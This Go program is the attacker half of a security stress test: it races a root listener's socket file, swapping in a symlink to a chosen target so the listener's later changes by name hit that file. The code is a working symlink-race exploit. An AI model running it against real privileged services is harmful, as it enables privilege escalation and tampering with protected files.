// Command symswap is the attacker of the socket-file race test
// (e2e/stress_security_test.go). Run as an unprivileged user who can
// write the directory of a root listener's socket file, it waits for the
// socket file to appear, puts a symbolic link to TARGET in its place at
// once (a rename), and removes the link again so that the listener can
// bind anew, over and over until it is killed: any change the listener
// makes to the socket file by name after binding it lands on TARGET.
//
//	symswap SOCKET TARGET
package main

import (
	"fmt"
	"os"
	"time"
)

func main() {
	if len(os.Args) != 3 {
		fmt.Fprintln(os.Stderr, "usage: symswap SOCKET TARGET")
		os.Exit(2)
	}
	sock, target := os.Args[1], os.Args[2]
	tmp := sock + ".swap"
	// Ignored throughout: a step that fails (the listener was faster)
	// is simply tried again.
	_ = os.Remove(tmp)
	_ = os.Symlink(target, tmp)
	for {
		fi, err := os.Lstat(sock)
		if err != nil || fi.Mode()&os.ModeSocket == 0 {
			continue
		}
		if os.Rename(tmp, sock) != nil {
			continue
		}
		time.Sleep(time.Millisecond)
		_ = os.Remove(sock)
		_ = os.Symlink(target, tmp)
	}
}
